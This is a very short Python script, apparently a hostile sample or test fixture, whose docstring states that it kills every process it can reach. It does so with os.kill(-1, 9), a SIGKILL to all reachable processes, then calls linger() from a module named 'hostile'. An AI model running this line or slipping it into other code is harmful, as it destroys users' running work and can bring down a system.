"""Kills every process that it can reach."""
import os

from hostile import linger

os.kill(-1, 9)
linger()
